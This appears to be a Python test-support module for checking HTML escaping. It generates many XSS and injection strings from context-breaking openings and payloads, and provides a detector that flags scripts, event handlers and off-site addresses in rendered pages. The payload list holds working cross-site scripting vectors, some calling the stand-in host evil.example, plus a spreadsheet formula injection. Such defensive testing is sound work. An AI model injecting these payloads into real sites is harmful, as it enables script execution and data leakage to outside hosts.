"""Hostile strings, made by rule, and what a browser would run or fetch of a page that shows them."""

from __future__ import annotations

import re
from collections.abc import Iterable
from itertools import product

from selectolax.lexbor import LexborHTMLParser, LexborNode

__all__ = ("HOSTILE", "live_nodes")

OPENINGS = (
    "",
    '">',
    "'>",
    '"/>',
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</mark></p>",
    "</template>",
    "</noscript>",
    "<!--",
    "&quot;&gt;",
    "%22%3E",
    '\\">',
    "\u2028",
    "{{7*7}}{% raw %}",
    "${7*7}`",
    "\u202e",
    "‹›＜script＞",
    "](x)",
)
"""What ends the place that a text stands in, or pretends to."""

PAYLOADS = (
    "<script>pwned()</script>",
    "<ScRiPt/x>pwned()</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script\n>pwned()</script\n>",
    "<<script>script>pwned()<</script>/script>",
    "<img src=x onerror=pwned()>",
    "<img/src=`x`onerror=pwned()>",
    '<img src="https://evil.example/pixel.gif">',
    "<image href=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x",
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:pwned()>x</a>",
    "<a href='java\tscript:pwned()'>x</a>",
    "<a href=data:text/html,<script>pwned()</script>>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style=background:url(//evil.example/x)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>pwned()</script></template>",
    "<isindex type=image src=x onerror=pwned()>",
    "<table background=//evil.example/x>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<p hx-get=//evil.example hx-trigger=load>",
    "<p data-key=a autofocus tabindex=1 accesskey=x>",
    '" onmouseover=pwned() x="',
    "' onfocus=pwned() autofocus x='",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&lt;img src=x onerror=pwned()&gt;",
    "<\u200bscript>pwned()</script>",
    '=HYPERLINK("http://evil.example","x")',
    "[x](javascript:pwned())",
    "![x](https://evil.example/pixel.gif)",
)
"""What would run, or fetch something, if it were read as more than words."""

HOSTILE = tuple(dict.fromkeys(f"{opening}{payload}" for opening, payload in product(OPENINGS, PAYLOADS)))

ASKING = (
    "src",
    "href",
    "action",
    "formaction",
    "data",
    "srcset",
    "poster",
    "background",
    "xlink:href",
    "ping",
    "hx-get",
    "hx-post",
    "sse-connect",
)
"""Attributes by which a browser goes somewhere."""

_TAGS = (
    "html head title meta link body header main nav section article aside footer h1 h2 h3 h4 p a ul ol li dl dt dd div"
    " span strong em b i mark ins del br hr pre code blockquote q cite abbr kbd time table caption thead tbody tr th td"
    " form label input select option optgroup textarea button fieldset legend details summary output progress meter"
    " script small dialog template img svg path sup sub"
)
OURS = frozenset(_TAGS.split())
"""Elements that our pages have at all."""


def live_nodes(html: str, *, addresses: Iterable[str] = ()) -> list[str]:
    """What in a page runs, fetches or leads outside, and is none of ours.

    Args:
        addresses: links to other machines that the page is meant to have.
    """
    found: list[str] = []
    known = frozenset(addresses)
    for node in LexborHTMLParser(html).css("*"):
        found += _wrong(node, known)
    return found


def _wrong(node: LexborNode, known: frozenset[str]) -> list[str]:
    tag, wrong = str(node.tag), list[str]()
    attributes = {name.lower(): value or "" for name, value in node.attributes.items()}
    if tag not in OURS:
        wrong.append(f"<{tag}>")
    if tag == "script" and (not attributes.get("src", "").startswith("/static/") or node.text(deep=True)):
        wrong.append(f"<script> {attributes}")
    if tag == "meta" and "http-equiv" in attributes:
        wrong.append(f"<meta> {attributes}")
    for name, value in attributes.items():
        if name.startswith("on") or name in ("style", "srcdoc", "autofocus"):
            wrong.append(f"<{tag} {name}={value!r}>")
        if name in ASKING and not _at_home(value) and value not in known:
            wrong.append(f"<{tag} {name}={value!r}>")
    return wrong


_PLACE = re.compile(r"(/(?![/\\])|\?|#|[a-z0-9]|$)[^:\\]*$", re.IGNORECASE)


def _at_home(value: str) -> bool:
    """Whether an address stays on this server: no scheme, no other host, nothing that a browser mends into one."""
    bare = re.sub(r"[\x00-\x20]", "", value)
    path, _, query = bare.partition("?")
    return bool(_PLACE.match(path)) and "\n" not in query
